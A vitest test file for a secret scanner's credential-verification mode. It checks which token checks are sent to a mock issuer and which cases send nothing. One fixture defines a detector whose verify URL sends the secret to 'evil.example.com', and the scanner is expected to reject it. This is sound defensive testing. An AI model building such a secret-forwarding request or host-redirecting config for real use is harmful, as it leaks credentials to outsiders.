/** `bitsieve scan --verify` as it is called: what issuers are asked, what is said, and when nothing is sent at all. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import {
  endOf,
  run,
  type Scan,
  scan,
  sharedFolder,
  sharedRepository,
  start,
} from '../support/run-program.ts';
import { awsKeyPair, githubToken } from '../support/secrets.ts';
import { tempFolder } from '../support/temp-folder.ts';
import { certificateFor } from '../verify/support/certificate.ts';
import { answer, startIssuer } from '../verify/support/issuer.ts';

const issuer = await startIssuer();
beforeEach(() => {
  issuer.received.length = 0;
  issuer.answering = answer(200);
});

const HOSTS = `[verify.hosts]\n"api.github.com" = "${issuer.base}/api/v3"\n"sts.amazonaws.com" = "${issuer.base}"\n`;
const own = sharedFolder();
writeFileSync(join(own, 'own.toml'), HOSTS);
const config = ['--config', join(own, 'own.toml')];

const token = githubToken(1);
const keys = awsKeyPair(7);
const repository = sharedRepository();
repository.commit({
  'a.env': `GITHUB_TOKEN=${token}\n`,
  'b.env': `TOKEN_AGAIN=${token}\n`,
  'test/fixtures/c.env': `GITHUB_TOKEN=${githubToken(2)}\n`,
});

interface Told {
  readonly result: string;
  readonly reason: string;
  readonly host: string;
}

function verifications({ report }: Scan): Array<Told | undefined> {
  // oxlint-disable-next-line typescript/no-unsafe-type-assertion -- a test that reads what is not there fails
  const findings = report.findings as ReadonlyArray<{ verification?: Told }>;
  return findings.map(({ verification }) => verification);
}

describe('scan --verify', () => {
  it('asks about a value once, and says of every place what the issuer said', async () => {
    const log = join(own, 'requests.jsonl');
    const done = await scan([repository.folder, '--verify', '--verify-log', log, ...config]);
    const host = new URL(issuer.base).host;
    const active = { result: 'active', reason: 'accepted', host };
    const unsure = { result: 'unknown', reason: 'not-sure-enough', host };
    expect(verifications(done)).toMatchObject([active, active, unsure]);
    expect(issuer.received.map(({ method, path, headers }) => [method, path, headers.authorization])).toEqual(
      [['GET', '/api/v3/user', `Bearer ${token}`]],
    );
    const [line = '', ...more] = readFileSync(log, 'utf8').trimEnd().split('\n');
    expect(more).toEqual([]);
    expect(JSON.parse(line)).toEqual({
      time: expect.stringMatching(/^\d{4}-\d\d-\d\dT[\d:.]+Z$/),
      detector: 'github-personal-access-token',
      secretId: done.report.findings[0]?.secretId,
      host,
      method: 'GET',
      path: '/api/v3/user',
      attempt: 1,
      status: 200,
      result: 'active',
      reason: 'accepted',
    });
    expect(line + done.stdout + done.stderr).not.toContain(token);
  });

  it.each([
    [401, 'inactive', 'refused'],
    [403, 'unknown', 'unexpected-answer'],
    [302, 'unknown', 'unexpected-answer'],
  ])('takes %i for %s', async (status, result, reason) => {
    issuer.answering = answer(status, {}, { location: `${issuer.base}/elsewhere` });
    const done = await scan([repository.folder, '--verify', ...config]);
    expect(verifications(done)[0]).toMatchObject({ result, reason });
    expect(issuer.received.map(({ path }) => path)).toEqual(['/api/v3/user']);
  });

  it('sends what lies among tests only where that was asked for', async () => {
    const done = await scan([repository.folder, '--verify', '--verify-confidence', 'medium', ...config]);
    expect(new Set(issuer.received.map(({ headers }) => headers.authorization))).toEqual(
      new Set([`Bearer ${token}`, `Bearer ${githubToken(2)}`]),
    );
    expect(verifications(done).map((told) => told?.result)).toEqual(['active', 'active', 'active']);
  });

  it('signs with a key pair, and sends no secret', async () => {
    const pair = sharedRepository();
    pair.commit({ 'a.env': `AWS_ACCESS_KEY_ID=${keys.id}\nAWS_SECRET_ACCESS_KEY=${keys.secret}\n` });
    issuer.answering = answer(403, { Error: { Code: 'InvalidClientTokenId' } });
    const done = await scan([pair.folder, '--verify', ...config]);
    const [asked] = issuer.received;
    expect(asked?.headers.authorization).toContain(`Credential=${keys.id}/`);
    expect(JSON.stringify(asked)).not.toContain(keys.secret);
    const told = verifications(done).filter((one) => one !== undefined);
    expect(told).toMatchObject([{ result: 'inactive', reason: 'refused' }]);
  });

  it.each(['console', 'jsonl', 'sarif', 'csv'])('is told in %s', async (format) => {
    const { stdout } = await run(['scan', repository.folder, '--verify', '-f', format, ...config]);
    expect(stdout).toMatch(/\bactive\b/);
    expect(stdout).toContain(new URL(issuer.base).host);
    expect(stdout).not.toContain(token);
  });

  it('trusts an authority of NODE_EXTRA_CA_CERTS, and sends nothing to a host that none has signed for', async () => {
    const made = certificateFor('localhost');
    const sealed = await startIssuer(made);
    const folder = tempFolder({
      'ca.pem': made.cert,
      'own.toml': `[verify.hosts]\n"api.github.com" = "https://localhost:${sealed.port}"\n`,
    });
    const args = [repository.folder, '--verify', '--config', join(folder, 'own.toml')];
    const refused = await scan(args);
    expect(verifications(refused)[0]).toMatchObject({ result: 'unknown', reason: 'no-trust' });
    expect(refused.report.problems).toMatchObject([{ code: 'not-verified', severity: 'warning' }]);
    expect(sealed.received).toEqual([]);
    const trusted = await scan(args, { env: { NODE_EXTRA_CA_CERTS: join(folder, 'ca.pem') } });
    expect(verifications(trusted)[0]).toMatchObject({ result: 'active', reason: 'accepted' });
  });

  it('stops at once', async () => {
    issuer.answering = () => undefined;
    const child = start(['scan', repository.folder, '--verify', '-f', 'json', ...config]);
    const ended = endOf(child);
    while (issuer.received.length === 0) await new Promise((next) => setTimeout(next, 20));
    child.kill('SIGINT');
    const { code, stdout } = await ended;
    expect(code).toBe(3);
    expect(JSON.parse(stdout)).toMatchObject({
      scan: { complete: false },
      findings: [{ verification: { result: 'unknown', reason: 'interrupted' } }, {}, {}],
      problems: [{ code: 'interrupted' }],
    });
  });
});

describe('nothing is sent', () => {
  it('without --verify', async () => {
    expect(verifications(await scan([repository.folder, ...config]))).toEqual([
      undefined,
      undefined,
      undefined,
    ]);
    expect(issuer.received).toEqual([]);
  });

  it.each([
    [['--staged'], {}, '--verify and --staged cannot go together'],
    [[], { GIT_INDEX_FILE: '.git/index' }, '--verify is not for hooks'],
    [[], { GIT_QUARANTINE_PATH: '/tmp/q' }, '--verify is not for hooks'],
  ])('in a hook: %j %j', async (flags, env, words) => {
    const { code, stderr } = await run(['scan', repository.folder, '--verify', ...flags, ...config], { env });
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining(words) });
    expect(issuer.received).toEqual([]);
  });

  it.each(['baseline', 'explain'])('by %s', async (command) => {
    const { code, stderr } = await run([command, '--verify', ...config], { cwd: repository.folder });
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('--verify goes with') });
  });

  it('where the configuration of what is scanned asks for it', async () => {
    const folder = tempFolder({ '.scannerrc': '[scan]\nverify = true\n', 'a.env': `T=${token}\n` });
    const { code, stderr } = await run(['scan', '--files', folder]);
    expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('only be given as a flag') });
  });

  it('to a host that what is scanned names', async () => {
    const folder = tempFolder({ '.scannerrc': HOSTS, 'a.env': 'nothing here\n' });
    const done = await scan(['--files', folder, '--verify']);
    expect(done.report.problems).toMatchObject([{ code: 'config-ignored', severity: 'warning' }]);
    expect(issuer.received).toEqual([]);
  });

  it('of what an own detector finds under the name of a built-in one', async () => {
    const detector = `[[detector]]\nid = "github-personal-access-token"\ntitle = "Mine"\nlabel = "credential/vcs"\nseverity = "high"\nkeywords = ["mine_"]\ntoken = '''mine_[a-z]{20}'''\n`;
    const folder = tempFolder({
      'own.toml': HOSTS + detector,
      'a.env': 'T=mine_abcdefghijklmnopqrst\n',
    });
    const done = await scan(['--files', folder, '--verify', '--config', join(folder, 'own.toml')]);
    expect(done.report.findings.map(({ detector: id }) => id)).toContain('github-personal-access-token');
    expect(verifications(done).filter((told) => told !== undefined)).toEqual([]);
    expect(issuer.received).toEqual([]);
  });

  it('of half a key pair that an own detector finds under the name of a built-in one', async () => {
    const other = ['other', 'x'.repeat(4), 'abcdefghijklmnop'].join('_');
    const detector = `[[detector]]\nid = "aws-access-key-id"\ntitle = "Mine"\nlabel = "credential/cloud"\nseverity = "high"\nkeywords = ["other_"]\ntoken = '''other_[a-z_]{21}'''\n`;
    const folder = tempFolder({
      'own.toml': HOSTS + detector,
      'a.env': `AWS_ACCESS_KEY_ID=${other}\nAWS_SECRET_ACCESS_KEY=${keys.secret}\n`,
    });
    const done = await scan(['--files', folder, '--verify', '--config', join(folder, 'own.toml')]);
    const told = verifications(done).filter((one) => one !== undefined);
    expect(told).toMatchObject([{ result: 'unknown', reason: 'no-pair' }]);
    expect(issuer.received).toEqual([]);
  });

  it('by a detector of the configuration that declares a request', async () => {
    const detector = `[[detector]]\nid = "mine"\ntitle = "Mine"\nlabel = "credential/vcs"\nseverity = "high"\nkeywords = ["mine_"]\ntoken = '''mine_[a-z]{20}'''\n[detector.verify]\nurl = "https://evil.example.com/{secret}"\nactive = [{ status = [200] }]\ninactive = [{ status = [401] }]\nsource = "https://example.com"\n`;
    const folder = tempFolder({ '.scannerrc': detector });
    const { code, stderr } = await run(['scan', '--files', folder, '--verify']);
    expect({ code, stderr }).toEqual({
      code: 2,
      stderr: expect.stringContaining('only built-in detectors are verified'),
    });
  });
});
